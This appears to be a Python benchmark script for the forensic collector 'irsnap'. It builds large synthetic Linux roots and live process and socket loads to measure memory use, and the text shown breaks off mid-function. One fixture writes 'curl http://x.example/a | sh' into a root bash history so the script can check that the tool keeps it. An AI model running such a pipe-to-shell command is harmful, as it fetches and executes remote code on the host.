#!/usr/bin/env python3
"""Peak memory, CPU and wall time of `irsnap collect` on generated hostile loads.

Each load is generated once (offline roots are cached under --work), then `irsnap collect
--json` runs on it --runs times, each with a fresh -o directory. Every run is measured with
os.wait4 on the child: peak RSS (ru_maxrss), CPU (user+sys) and wall time; the --json summary
on its stdout gives the run status and the record count. One Markdown table goes to stdout
(or, with --json, one JSON object per load), progress to stderr.

    python3 scripts/bench-memory.py                              # every load, 3 runs each (standard: 7)
    python3 scripts/bench-memory.py --list                       # the loads and what they hold
    python3 scripts/bench-memory.py --only 'history-*,cron-1m' --runs 1 --work ~/irsnap-bench
    python3 scripts/bench-memory.py --only standard --baseline-binary /tmp/irsnap-before
    python3 scripts/bench-memory.py --binary /work/main/target/release/irsnap --json --strict

PASS means every run wrote an archive (exit 0 or 2) with a peak RSS within --max-rss-mib;
the history-100mb-line-tail row also says (notes, `check` in JSON) whether the newest command
became a record.
The exit code is 0 whatever the verdicts unless --strict (then 1 when any row FAILs).

Offline loads are folders laid out like a Linux system drive (`etc/passwd`, `etc/hostname`)
collected with --root. The live loads (`processes-3000`, `standard`) pad this host with
`sleep` children and loopback sockets held by this script, plant their temp files in a fresh
directory under /tmp, and write archives outside the temp directories irsnap scans; they run
first, before the offline roots exist, because a work directory under /tmp is scanned too.
Everything planted (sleepers, sockets, /tmp files, the default work directory) is removed at
the end, also on Ctrl-C.

Measuring: a small helper (a fresh `python3 -I -S`, about 6 MiB) forks and execs irsnap and
reads its os.wait4 figures. Not posix_spawn/vfork, and not from this script: a child's
ru_maxrss starts at its parent's RSS at fork (its *peak* RSS with vfork), and this script's RSS
grows with the loads it generates; the floor is reported as `floor_mib`. RSS is also watched
while the child runs: past --kill-rss-mib (default half the machine's memory) or --timeout it
is killed and the row says so.
"""
from __future__ import annotations

import argparse
import contextlib
import fnmatch
import glob
import json
import os
import random
import shutil
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import time
import zipfile

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
MIB = 1 << 20
# Bump when a generator changes: cached roots of another version are rebuilt.
GEN_VERSION = 1
# Cached roots older than this are rebuilt: their files must stay inside the 30-day window.
CACHE_MAX_AGE_S = 7 * 86400
POLL_MS = 50


def log(msg: str) -> None:
    print(msg, file=sys.stderr, flush=True)


# ----------------------------------------------------------------------------------------------
# Writing trees fast: plain os.open/os.write, parents created once.


class Tree:
    """Writes files under `base`; counts them."""

    def __init__(self, base: str, seed: int = 1):
        self.base = base
        self.files = 0
        self.bytes = 0
        self._dirs: set[str] = set()
        self.rng = random.Random(seed)
        self._pool = b""

    def _parent(self, path: str) -> None:
        d = os.path.dirname(path)
        if d not in self._dirs:
            os.makedirs(d, exist_ok=True)
            self._dirs.add(d)

    def dir(self, rel: str, mode: int | None = None) -> str:
        path = os.path.join(self.base, rel)
        os.makedirs(path, exist_ok=True)
        if mode is not None:
            os.chmod(path, mode)
        self._dirs.add(path)
        return path

    def file(self, rel: str, data: bytes, mode: int = 0o644) -> None:
        self.chunks(rel, (data,), mode)

    def chunks(self, rel: str, chunks, mode: int = 0o644) -> None:
        path = os.path.join(self.base, rel)
        self._parent(path)
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_CLOEXEC, mode)
        try:
            for chunk in chunks:
                view = memoryview(chunk)
                while view:
                    n = os.write(fd, view)
                    self.bytes += n
                    view = view[n:]
        finally:
            os.close(fd)
        self.files += 1

    def symlink(self, rel: str, target: str) -> None:
        path = os.path.join(self.base, rel)
        self._parent(path)
        os.symlink(target, path)
        self.files += 1

    def rand(self, n: int) -> bytes:
        """n pseudo-random bytes: a slice of a 2 MiB random pool (n <= 2 MiB)."""
        if not self._pool:
            self._pool = os.urandom(2 * MIB)
        n = min(n, len(self._pool))
        off = self.rng.randrange(len(self._pool) - n + 1)
        return self._pool[off : off + n]

    def rand_file(self, rel: str, size: int, header: bytes = b"", mode: int = 0o644) -> None:
        """A file of `size` bytes: `header`, then fresh random bytes (for multi-MB files)."""

        def gen():
            yield header
            left = size - len(header)
            while left > 0:
                n = min(left, MIB)
                yield os.urandom(n)
                left -= n

        self.chunks(rel, gen(), mode)

    def done(self) -> None:
        self._pool = b""  # keep this script's RSS (the children's ru_maxrss floor) small


def printable_chunks(size: int):
    """`size` bytes of random printable ASCII (no newline), 1 MiB at a time."""
    table = bytes(32 + i % 95 for i in range(256))
    left = size
    while left > 0:
        n = min(left, MIB)
        yield os.urandom(n).translate(table)
        left -= n


def linux_root(t: Tree, hostname: str, users: list[tuple[str, int, str]] = ()) -> None:
    """etc/passwd, etc/hostname and the usual top directories: irsnap sees a Linux root."""
    for d, mode in (("etc", 0o755), ("tmp", 0o1777), ("var/tmp", 0o1777), ("root", 0o700), ("home", 0o755)):
        t.dir(d, mode)
    passwd = [
        "root:x:0:0:root:/root:/bin/bash",
        "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
        "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin",
    ]
    for name, uid, home in users:
        passwd.append(f"{name}:x:{uid}:{uid}:{name}:{home}:/bin/bash")
        t.dir(home.lstrip("/"))
    t.file("etc/passwd", ("\n".join(passwd) + "\n").encode())
    t.file("etc/hostname", f"{hostname}\n".encode())
    t.file("etc/os-release", b'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\n')


# ----------------------------------------------------------------------------------------------
# Offline loads. Each gen_* writes under t.base (the root) and returns facts for the JSON row.


def script_body(t: Tree, n: int) -> tuple[str, bytes]:
    kind = n % 3
    pad = b"# " + b"x" * t.rng.randrange(0, 400) + b"\n"
    if kind == 0:
        return "sh", b"#!/bin/sh\n# job %d\n%secho job-%d\nexec /usr/bin/true --id %d\n" % (n, pad, n, n)
    if kind == 1:
        shebang = b"#!/usr/bin/env python3\n" if n % 2 else b""
        return "py", shebang + b"import os\n%sprint(%d, os.getpid())\n" % (pad, n)
    return "ps1", b"$id = %d\r\n%sWrite-Output \"job $id\"\r\n" % (n, pad.replace(b"\n", b"\r\n"))


def data_body(t: Tree, n: int) -> tuple[str, bytes]:
    kind = n % 3
    if kind == 0:
        return "txt", b"entry %d\n" % n * t.rng.randrange(1, 20)
    if kind == 1:
        return "dat", t.rand(t.rng.randrange(64, 2048))
    return "json", b'{"id": %d, "ok": true, "tags": ["a", "b"]}\n' % n


def gen_temp(t: Tree, dirs: int, per_dir: int, script_every: int) -> dict:
    scripts = 0
    for d in range(dirs):
        base = f"tmp/cache/g{d // 20:02d}/d{d:03d}"
        for i in range(per_dir):
            n = d * per_dir + i
            if n % script_every == 0:
                ext, body = script_body(t, scripts)
                scripts += 1
                t.file(f"{base}/s{i:04d}.{ext}", body, 0o755 if ext == "sh" else 0o644)
            else:
                ext, body = data_body(t, n)
                t.file(f"{base}/f{i:04d}.{ext}", body)
    return {"scripts": scripts}


def gen_temp_300k(t: Tree, args) -> dict:
    linux_root(t, "bench-temp-300k")
    return gen_temp(t, 300, 1000, 3)


def gen_temp_100k_scripts(t: Tree, args) -> dict:
    linux_root(t, "bench-temp-100k-scripts")
    return gen_temp(t, 100, 1000, 1)


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x03\x00\x3e\x00\x01\x00\x00\x00"


def gen_venv_build(t: Tree, args) -> dict:
    linux_root(t, "bench-temp-venv-build", [("dev", 1000, "/home/dev")])
    rng = t.rng
    # A Python virtualenv: ~60,000 .py files.
    v = "tmp/venv"
    t.file(f"{v}/pyvenv.cfg", b"home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.11.7\n")
    t.file(f"{v}/bin/activate", b'# This file must be used with "source bin/activate" *from bash*\nVIRTUAL_ENV="/tmp/venv"\nexport VIRTUAL_ENV\nPATH="$VIRTUAL_ENV/bin:$PATH"\n')
    t.file(f"{v}/bin/activate.fish", b"set -gx VIRTUAL_ENV /tmp/venv\n")
    t.file(f"{v}/bin/activate.csh", b"setenv VIRTUAL_ENV /tmp/venv\n")
    t.file(f"{v}/bin/Activate.ps1", b'$env:VIRTUAL_ENV = "/tmp/venv"\r\n')
    for name in ("pip", "pip3", "pip3.11", "wheel"):
        t.file(f"{v}/bin/{name}", b"#!/tmp/venv/bin/python3\nimport sys\nfrom pip._internal.cli.main import main\nsys.exit(main())\n", 0o755)
    t.symlink(f"{v}/bin/python", "/usr/bin/python3")
    t.symlink(f"{v}/bin/python3", "python")
    t.symlink(f"{v}/bin/python3.11", "python")
    sp = f"{v}/lib/python3.11/site-packages"
    for p in range(300):
        pkg = f"pkg{p:03d}"
        t.file(f"{sp}/{pkg}/__init__.py", b"from ._version import __version__\n")
        t.file(f"{sp}/{pkg}/_version.py", b'__version__ = "1.%d.0"\n' % p)
        for s in range(9):
            t.file(f"{sp}/{pkg}/sub{s}/__init__.py", b"")
            for m in range(21):
                body = b"# %s.sub%d.mod%02d\nimport os\n\n\ndef f(x):\n    return x + %d\n" % (pkg.encode(), s, m, m)
                t.file(f"{sp}/{pkg}/sub{s}/mod{m:02d}.py", body + b"#" * rng.randrange(0, 1500) + b"\n")
        di = f"{sp}/{pkg}-1.{p}.0.dist-info"
        t.file(f"{di}/METADATA", b"Metadata-Version: 2.1\nName: %s\nVersion: 1.%d.0\n" % (pkg.encode(), p))
        t.file(f"{di}/RECORD", b"%s/__init__.py,,\n" % pkg.encode() * 50)
        t.file(f"{di}/WHEEL", b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\n")
        t.file(f"{di}/INSTALLER", b"pip\n")
    # A node_modules tree: ~30,000 .js files, a package.json each.
    nm = "tmp/webapp/node_modules"
    t.file("tmp/webapp/package.json", b'{"name": "webapp", "version": "1.0.0"}\n')
    for p in range(1000):
        pkg = f"@scope{p % 7}/npkg-{p}" if p % 10 == 0 else f"npkg-{p}"
        t.file(f"{nm}/{pkg}/package.json", b'{"name": "%s", "version": "2.%d.0", "main": "index.js"}\n' % (pkg.encode(), p))
        shebang = b"#!/usr/bin/env node\n" if p % 10 == 1 else b""
        t.file(f"{nm}/{pkg}/index.js", shebang + b"'use strict';\nmodule.exports = require('./lib/f00');\n")
        for j in range(29):
            body = b"'use strict';\nmodule.exports = function f%d(a) { return a + %d; };\n" % (j, j)
            t.file(f"{nm}/{pkg}/lib/f{j:02d}.js", body + b"//" + b"-" * rng.randrange(0, 3000) + b"\n")
        if p % 5 == 1:
            t.symlink(f"{nm}/.bin/npkg-{p}", f"../{pkg}/index.js")
    # Two Rust target/ trees: ~30,000 files, ELF objects and build scripts, 1-8 MB binaries.
    for tree in ("build-a", "build-b"):
        tgt = f"tmp/{tree}/target"
        t.file(f"{tgt}/CACHEDIR.TAG", b"Signature: 8a477f597d28d172789f06886806bc55\n")
        t.file(f"{tgt}/debug/.cargo-lock", b"")
        for c in range(530):
            crate = f"crate{c:03d}"
            h = f"{rng.getrandbits(64):016x}"
            deps = f"{tgt}/debug/deps"
            t.file(f"{deps}/lib{crate}-{h}.rlib", b"!<arch>\n" + t.rand(rng.randrange(4096, 65536)))
            t.file(f"{deps}/lib{crate}-{h}.rmeta", t.rand(rng.randrange(1024, 16384)))
            t.file(f"{deps}/{crate}-{h}.d", b"%s/debug/deps/lib%s-%s.rlib: src/lib.rs src/a.rs\n" % (tgt.encode(), crate.encode(), h.encode()))
            fp = f"{tgt}/debug/.fingerprint/{crate}-{h}"
            t.file(f"{fp}/lib-{crate}", h.encode())
            t.file(f"{fp}/lib-{crate}.json", b'{"rustc":1,"features":"[]","target":%d}' % c)
            t.file(f"{fp}/dep-lib-{crate}", t.rand(200))
            t.file(f"{fp}/invoked.timestamp", b"This file has an mtime of when this was started.")
            inc = f"{tgt}/debug/incremental/{crate}-{rng.getrandbits(40):010x}/s-{rng.getrandbits(60):015x}"
            for k in range(17):
                t.file(f"{inc}/{crate}.{k:02x}cgu.o", ELF + t.rand(rng.randrange(1024, 8192)))
            for name in ("dep-graph.bin", "query-cache.bin", "work-products.bin"):
                t.file(f"{inc}/{name}", t.rand(rng.randrange(512, 4096)))
            if c % 4 == 0:
                b1 = f"{tgt}/debug/build/{crate}-{rng.getrandbits(64):016x}"
                t.file(f"{b1}/build-script-build", ELF + t.rand(rng.randrange(64 << 10, 256 << 10)), 0o755)
                t.file(f"{b1}/build_script_build.d", b"build.rs\n")
                b2 = f"{tgt}/debug/build/{crate}-{rng.getrandbits(64):016x}"
                t.file(f"{b2}/output", b"cargo:rerun-if-changed=build.rs\ncargo:rustc-cfg=has_feature\n")
                t.file(f"{b2}/stderr", b"")
                t.file(f"{b2}/root-output", f"/{b2}/out".encode())
                t.file(f"{b2}/out/generated.rs", b"pub const N: usize = %d;\n" % c)
        for k in range(5):
            size = rng.randrange(1_000_000, 8_000_000)
            t.rand_file(f"{tgt}/debug/app{k}", size, ELF, 0o755)
            t.rand_file(f"{tgt}/debug/deps/app{k}-{rng.getrandbits(64):016x}", size, ELF, 0o755)
    # A .git directory: hooks (shell scripts), loose objects, a pack.
    g = "tmp/build-a/.git"
    t.file(f"{g}/HEAD", b"ref: refs/heads/main\n")
    t.file(f"{g}/config", b"[core]\n\trepositoryformatversion = 0\n\tbare = false\n")
    t.file(f"{g}/description", b"Unnamed repository\n")
    t.file(f"{g}/info/exclude", b"# git ls-files --others --exclude-from=.git/info/exclude\n")
    t.file(f"{g}/refs/heads/main", f"{rng.getrandbits(160):040x}\n".encode())
    t.file(f"{g}/packed-refs", b"# pack-refs with: peeled fully-peeled sorted\n")
    t.file(f"{g}/index", b"DIRC" + t.rand(200_000))
    for hook in ("applypatch-msg", "commit-msg", "fsmonitor-watchman", "post-update", "pre-applypatch",
                 "pre-commit", "pre-merge-commit", "pre-push", "pre-rebase", "pre-receive",
                 "prepare-commit-msg", "push-to-checkout", "update"):
        t.file(f"{g}/hooks/{hook}.sample", b"#!/bin/sh\n# An example hook script.\nexit 0\n", 0o755)
    for _ in range(2000):
        oid = f"{rng.getrandbits(160):040x}"
        t.file(f"{g}/objects/{oid[:2]}/{oid[2:]}", b"x\x01" + t.rand(rng.randrange(100, 4000)), 0o444)
    pack = f"{rng.getrandbits(160):040x}"
    t.rand_file(f"{g}/objects/pack/pack-{pack}.pack", 4 * MIB, b"PACK")
    t.file(f"{g}/objects/pack/pack-{pack}.idx", b"\xfftOc" + t.rand(300_000))
    t.file(f"{g}/objects/pack/pack-{pack}.rev", b"RIDX" + t.rand(20_000))
    return {}


def gen_history_6x262k(t: Tree, args) -> dict:
    users = [(f"user{i}", 1000 + i, f"/home/user{i}") for i in range(1, 7)]
    linux_root(t, "bench-history-6x262k", users)
    for _, _, home in users:
        t.file(f"{home.lstrip('/')}/.bash_history", b"ls\n" * 262_144)
    return {"commands": 6 * 262_144}


def gen_history_300k(t: Tree, args) -> dict:
    linux_root(t, "bench-history-300k")
    t.file("root/.bash_history", b"a\n" * 300_000)
    return {"commands": 300_000}


def gen_history_2byte(t: Tree, args) -> dict:
    linux_root(t, "bench-history-2byte")
    mib = args.history_mib
    t.chunks("root/.bash_history", (b"a\n" * (MIB // 2) for _ in range(mib)), 0o600)
    return {"history_mib": mib, "commands": mib * MIB // 2}


HISTORY_LINE = 100_000_000
TAIL_COMMAND = b"curl http://x.example/a | sh"


def gen_history_100mb_line(t: Tree, args) -> dict:
    linux_root(t, "bench-history-100mb-line")
    t.chunks("root/.bash_history", printable_chunks(HISTORY_LINE), 0o600)
    return {}


def gen_history_100mb_line_tail(t: Tree, args) -> dict:
    linux_root(t, "bench-history-100mb-line-tail")
    padding = printable_chunks(HISTORY_LINE)
    t.chunks("root/.bash_history", (*padding, b"\n" + TAIL_COMMAND + b"\n"), 0o600)
    return {}


def cron_lines(first: int, count: int, user: bytes = b"root ") -> bytes:
    return b"".join(b"*/5 * * * * %s/usr/bin/job-%d --arg %d\n" % (user, n, n) for n in range(first, first + count))


CRONTAB_HEAD = b"SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n\n"


def gen_cron_1m(t: Tree, args) -> dict:
    linux_root(t, "bench-cron-1m")
    for f in range(100):
        t.file(f"etc/cron.d/jobs-{f:03d}", CRONTAB_HEAD + cron_lines(f * 10_000, 10_000))
    return {"lines": 1_000_000}


def gen_cron_100k(t: Tree, args) -> dict:
    linux_root(t, "bench-cron-100k")
    t.file("etc/crontab", CRONTAB_HEAD + cron_lines(0, 100_000))
    return {"lines": 100_000}


def gen_cron_6x4mb(t: Tree, args) -> dict:
    linux_root(t, "bench-cron-6x4mb")
    size = 4_000_000
    lines = 0
    for f in range(6):
        buf = bytearray(CRONTAB_HEAD)
        n = f * 1_000_000
        while True:
            line = b"*/5 * * * * root /usr/bin/job-%d --arg %d\n" % (n, n)
            if len(buf) + len(line) > size:
                break
            buf += line
            n += 1
            lines += 1
        buf += b"#" * (size - len(buf) - 1) + b"\n"
        t.file(f"etc/cron.d/big-{f}", bytes(buf))
    return {"lines": lines}


def audit_chunks(size: int):
    """`size` bytes of auditd execve events (SYSCALL, EXECVE with a hex argument, CWD,
    PROCTITLE, EOE), 1 MiB at a time; every 7th event's records interleave with the next's."""
    written, serial, buf = 0, 1, bytearray()
    while written < size:
        t = 1700000000 + serial // 1000
        ms = serial % 1000
        stamp = b"msg=audit(%d.%03d:%d)" % (t, ms, serial)
        arg = b"/tmp/job-%d --flag %d" % (serial, serial)
        buf += (b"type=SYSCALL %s: arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=56 a2=57 a3=0 items=2 "
                b"ppid=%d pid=%d auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 "
                b"ses=3 comm=\"sh\" exe=\"/usr/bin/dash\" key=\"exec\"\n" % (stamp, serial, serial + 1))
        buf += b"type=EXECVE %s: argc=3 a0=\"sh\" a1=\"-c\" a2=%s\n" % (stamp, arg.hex().upper().encode())
        buf += b"type=CWD %s: cwd=\"/root\"\n" % stamp
        buf += b"type=PROCTITLE %s: proctitle=%s\n" % (stamp, (b"sh\0-c\0" + arg).hex().upper().encode())
        if serial % 7:
            buf += b"type=EOE %s: \n" % stamp
        serial += 1
        if len(buf) >= MIB:
            chunk = bytes(buf[: size - written])
            written += len(chunk)
            buf.clear()
            yield chunk
    if buf and written < size:
        yield bytes(buf[: size - written])


def gen_audit_big(t: Tree, args) -> dict:
    linux_root(t, "bench-audit")
    size = args.audit_mib * MIB
    t.chunks("var/log/audit/audit.log", audit_chunks(size))
    return {"audit_mib": args.audit_mib}


# ----------------------------------------------------------------------------------------------
# Live loads: sleepers, sockets and /tmp files held by this script for the load's runs.


def count_processes() -> int:
    return sum(1 for d in os.listdir("/proc") if d.isdigit())


def count_sockets() -> int:
    n = 0
    for name in ("tcp", "tcp6", "udp", "udp6"):
        try:
            with open(f"/proc/net/{name}", "rb") as f:
                n += max(0, sum(1 for _ in f) - 1)
        except OSError:
            pass
    return n


class Sleepers:
    """`sleep 600` children with varied argv, started with posix_spawn, killed by pid."""

    def __init__(self):
        self.pids: list[int] = []
        self.sleep = shutil.which("sleep") or "/bin/sleep"

    def spawn(self, count: int) -> None:
        devnull = [(os.POSIX_SPAWN_OPEN, fd, os.devnull, os.O_RDWR, 0) for fd in (0, 1, 2)]
        start = len(self.pids)
        for i in range(start, start + count):
            v = i % 6
            if v == 0:
                argv0 = "sleep"
            elif v == 1:
                argv0 = f"worker-{i}"
            elif v == 2:
                argv0 = f"/opt/app/bin/queue-consumer --id={i} --queue=q{i % 17}"
            elif v == 3:
                argv0 = f"[kworker/u8:{i % 64}]"
            elif v == 4:
                argv0 = "python3 -c " + "x" * (256 + i % 768)
            else:
                argv0 = self.sleep
            argv = [argv0, "600"] + [f"0.{i % 1000:03d}"] * (i % 4)
            self.pids.append(os.posix_spawn(self.sleep, argv, os.environ, file_actions=devnull))

    def kill(self) -> None:
        for pid in self.pids:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
        for pid in self.pids:
            with contextlib.suppress(ChildProcessError):
                os.waitpid(pid, 0)
        self.pids.clear()


class Sockets:
    """Loopback TCP held open: a few listeners and connected pairs (client + accepted end)."""

    def __init__(self):
        self.socks: list[socket.socket] = []
        self.listeners: list[socket.socket] = []

    def pad_to(self, target: int) -> None:
        while count_sockets() < target:
            if len(self.listeners) < 5:
                s = socket.socket()
                s.bind(("127.0.0.1", 0))
                s.listen(64)
                self.listeners.append(s)
                self.socks.append(s)
                continue
            lst = self.listeners[len(self.socks) % len(self.listeners)]
            c = socket.create_connection(lst.getsockname())
            a, _ = lst.accept()
            self.socks += [c, a]

    def close(self) -> None:
        for s in self.socks:
            s.close()
        self.socks.clear()
        self.listeners.clear()


@contextlib.contextmanager
def live_processes_3000(args, ctx):
    sleepers = Sleepers()
    try:
        sleepers.spawn(3000)
        yield {"processes": count_processes(), "sleepers": len(sleepers.pids)}
    finally:
        sleepers.kill()


def plant_standard(base: str) -> Tree:
    """2,007 files: 1,000 shell scripts, 400 Python, 300 PowerShell, 200 small ELF binaries,
    102 text files, a 16 MiB random .bin and four multi-MB random executables."""
    t = Tree(base, seed=7)
    rng = t.rng
    t.rand_file("stage2.bin", 16 * MIB)
    t.rand_file("update.exe", 6 * MIB, b"MZ\x90\x00")
    t.rand_file("libcache.so", 4 * MIB, ELF)
    t.rand_file("helper.dll", 3 * MIB, b"MZ\x90\x00")
    t.rand_file("payload.run", 2 * MIB)
    for i in range(1000):
        body = b"#!/bin/sh\n# build step %d\n" % i + b"echo step %d >> /tmp/log\n" % i * rng.randrange(1, 300)
        t.file(f"sh/s{i // 100}/job{i}.sh", body, 0o755)
    for i in range(400):
        t.file(f"py/t{i}.py", b"#!/usr/bin/env python3\nimport sys\n" + b"print(%d)\n" % i * rng.randrange(1, 200))
    for i in range(300):
        t.file(f"ps/s{i}.ps1", b"Write-Output 'task %d'\r\n" % i * rng.randrange(1, 200))
    for i in range(200):
        t.file(f"bin/tool{i}", ELF + t.rand(rng.randrange(4096, 256 << 10)), 0o755)
    for i in range(102):
        t.file(f"notes/n{i}.txt", b"note %d\n" % i * rng.randrange(1, 500))
    t.done()
    return t


def count_entries(top: str, cap: int) -> int:
    n = 0
    stack = [top]
    while stack and n < cap:
        with contextlib.suppress(OSError), os.scandir(stack.pop()) as it:
            for e in it:
                n += 1
                with contextlib.suppress(OSError):
                    if e.is_dir(follow_symlinks=False):
                        stack.append(e.path)
    return n


@contextlib.contextmanager
def live_standard(args, ctx):
    sleepers, socks, planted = Sleepers(), Sockets(), None
    try:
        tmp_before = count_entries("/tmp", 1_000_000)
        sleepers.spawn(max(0, 330 - count_processes()))
        socks.pad_to(55)
        planted = tempfile.mkdtemp(prefix="irsnap-bench-standard-", dir="/tmp")
        t = plant_standard(planted)
        yield {
            "processes": count_processes(),
            "sockets": count_sockets(),
            "planted_dir": planted,
            "planted_files": t.files,
            "planted_mib": round(t.bytes / MIB, 1),
            "tmp_entries_before": tmp_before,
        }
    finally:
        sleepers.kill()
        socks.close()
        if planted:
            shutil.rmtree(planted, ignore_errors=True)


# ----------------------------------------------------------------------------------------------
# The loads, in table order. Live loads run first (see the module docstring).


class Load:
    def __init__(self, name, about, gen=None, live=None, collect_args=(), runs=3, check=None):
        self.name, self.about, self.gen, self.live = name, about, gen, live
        self.collect_args, self.default_runs, self.check = list(collect_args), runs, check


def check_tail(archive: str) -> tuple[str, bool]:
    found = archive_contains(archive, "records/shell_history.jsonl", b"curl http://x.example/a")
    if found is None:
        return "no records/shell_history.jsonl", False
    return ("newest command kept" if found else "newest command LOST (curl record missing)"), found


LOADS = [
    Load("temp-300k", "/tmp: 300,000 files (100,000 .sh/.py/.ps1 scripts, the rest .txt/.dat/.json) in 300 dirs", gen_temp_300k),
    Load("temp-100k-scripts", "/tmp: 100,000 small .sh/.py/.ps1 scripts in 100 dirs", gen_temp_100k_scripts),
    Load("temp-venv-build", "/tmp: a virtualenv (60,000 .py), node_modules (30,000 .js), two Rust target/ trees (1-8 MB binaries), a .git dir; ~124,000 files", gen_venv_build),
    Load("history-6x262k", "six users, each a .bash_history of 262,144 'ls' lines", gen_history_6x262k),
    Load("history-300k", "/root/.bash_history: 300,000 two-byte commands (600 KB)", gen_history_300k),
    Load("history-2byte", "/root/.bash_history: --history-mib MiB (default 64) of two-byte commands", gen_history_2byte),
    Load("history-100mb-line", "/root/.bash_history: one 100 MB line of random printable ASCII, no newline", gen_history_100mb_line),
    Load("history-100mb-line-tail", "the 100 MB line, then '\\ncurl http://x.example/a | sh\\n': is the newest command a record?", gen_history_100mb_line_tail, check=check_tail),
    Load("cron-1m", "/etc/cron.d: 100 files x 10,000 lines", gen_cron_1m),
    Load("cron-100k", "/etc/crontab: 100,000 lines", gen_cron_100k),
    Load("cron-6x4mb", "/etc/cron.d: six 4 MB files of cron lines", gen_cron_6x4mb),
    Load("audit-2gb", "/var/log/audit/audit.log: --audit-mib MiB (default 2048) of execve events (hex arguments, proctitle, interleaved EOE-less events)", gen_audit_big),
    Load("processes-3000", "live, --profile volatile: this host plus 3,000 sleep children with varied argv", live=live_processes_3000, collect_args=["--profile", "volatile"]),
    Load("standard", "live, default profile: host padded to ~330 processes and ~55 loopback TCP sockets, 2,007 files planted in a fresh /tmp dir (a 16 MiB random file, multi-MB binaries, scripts)", live=live_standard, runs=7),
]


# Parameters a cached root depends on, beyond GEN_VERSION.
def gen_params(load: Load, args) -> dict:
    if load.name == "audit-2gb":
        return {"audit_mib": args.audit_mib}
    return {"history_mib": args.history_mib} if load.name == "history-2byte" else {}


# ----------------------------------------------------------------------------------------------
# Measuring one run.


def archive_contains(archive: str, member: str, needle: bytes) -> bool | None:
    """Whether the archive member holds `needle`, read 1 MiB at a time; None when no member."""
    with zipfile.ZipFile(archive) as zf:
        try:
            f = zf.open(member)
        except KeyError:
            return None
        with f:
            tail = b""
            while chunk := f.read(MIB):
                buf = tail + chunk
                if needle in buf:
                    return True
                tail = buf[-(len(needle) - 1) :]
    return False


# The measuring helper: a fresh `python3 -I -S` per run forks irsnap, watches it, and prints
# its os.wait4 figures as JSON. Being small (about 6 MiB) it keeps the child's ru_maxrss floor
# low; this script's own RSS grows with the loads it generates.
HELPER = r"""
import json, os, select, signal, sys, time

cfg = json.loads(sys.argv[1])


class Stop(BaseException):
    pass


def stop(signum, frame):
    raise Stop


signal.signal(signal.SIGTERM, stop)
signal.signal(signal.SIGINT, stop)


def rss_kib(pid):
    try:
        with open("/proc/%s/status" % pid, "rb") as f:
            for line in f:
                if line.startswith(b"VmRSS:"):
                    return int(line.split()[1])
    except (OSError, ValueError, IndexError):
        pass
    return 0


def exited(pidfd, ms):
    p = select.poll()
    p.register(pidfd, select.POLLIN)
    return bool(p.poll(ms))


def send(pidfd, sig):
    try:
        signal.pidfd_send_signal(pidfd, sig)
    except ProcessLookupError:
        pass


flags = os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_CLOEXEC
so = os.open(cfg["stdout"], flags, 0o644)
se = os.open(cfg["stderr"], flags, 0o644)
dn = os.open(os.devnull, os.O_RDONLY | os.O_CLOEXEC)
floor = rss_kib("self")
t0 = time.perf_counter()
pid = os.fork()
if pid == 0:
    try:
        os.dup2(dn, 0)
        os.dup2(so, 1)
        os.dup2(se, 2)
        os.execv(cfg["argv"][0], cfg["argv"])
    finally:
        os._exit(127)
pidfd = os.pidfd_open(pid)
killed, interrupted, sampled = None, False, 0
try:
    while not exited(pidfd, cfg["poll_ms"]):
        if killed:
            continue
        rss = rss_kib(pid)
        sampled = max(sampled, rss)
        if rss > cfg["kill_kib"]:
            killed = "killed: RSS over %d MiB" % (cfg["kill_kib"] // 1024)
        elif time.perf_counter() - t0 > cfg["timeout"]:
            killed = "killed: over %g s" % cfg["timeout"]
        if killed:
            send(pidfd, signal.SIGKILL)
except Stop:
    # Ctrl-C or SIGTERM: let irsnap finish its archive for a moment, then make sure it is gone.
    interrupted = True
    send(pidfd, signal.SIGTERM)
    try:
        if not exited(pidfd, 5000):
            send(pidfd, signal.SIGKILL)
    except Stop:
        send(pidfd, signal.SIGKILL)
wall = time.perf_counter() - t0
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGINT, signal.SIG_IGN)
_, status, ru = os.wait4(pid, 0)
print(json.dumps({
    "maxrss_kib": ru.ru_maxrss, "utime": ru.ru_utime, "stime": ru.ru_stime, "wall": wall,
    "exit_code": os.waitstatus_to_exitcode(status), "killed": killed, "floor_kib": floor,
    "sampled_kib": sampled, "interrupted": interrupted,
}))
sys.exit(130 if interrupted else 0)
"""


def measure(binary: str, collect_args: list[str], out_dir: str, args) -> dict:
    shutil.rmtree(out_dir, ignore_errors=True)
    os.makedirs(out_dir)
    out_path, err_path = out_dir + ".stdout", out_dir + ".stderr"
    cfg = {
        "argv": [binary, "collect", "--json", "-o", out_dir] + collect_args,
        "stdout": out_path,
        "stderr": err_path,
        "kill_kib": args.kill_rss_mib * 1024,
        "timeout": args.timeout,
        "poll_ms": POLL_MS,
    }
    helper = subprocess.Popen([sys.executable, "-I", "-S", "-c", HELPER, json.dumps(cfg)],
                              stdin=subprocess.DEVNULL, stdout=subprocess.PIPE)
    try:
        out, _ = helper.communicate()
    except BaseException:
        if helper.poll() is None:
            helper.send_signal(signal.SIGTERM)
        try:
            helper.communicate(timeout=15)
        except BaseException:
            helper.kill()
            helper.wait()
        raise
    if helper.returncode == 130:
        raise KeyboardInterrupt
    try:
        m = json.loads(out)
    except ValueError:
        raise RuntimeError(f"measuring helper failed (exit {helper.returncode})") from None
    code = m["exit_code"]
    summary = {}
    with contextlib.suppress(OSError, ValueError):
        with open(out_path, "rb") as f:
            summary = json.load(f)
    with open(err_path, "rb") as f:
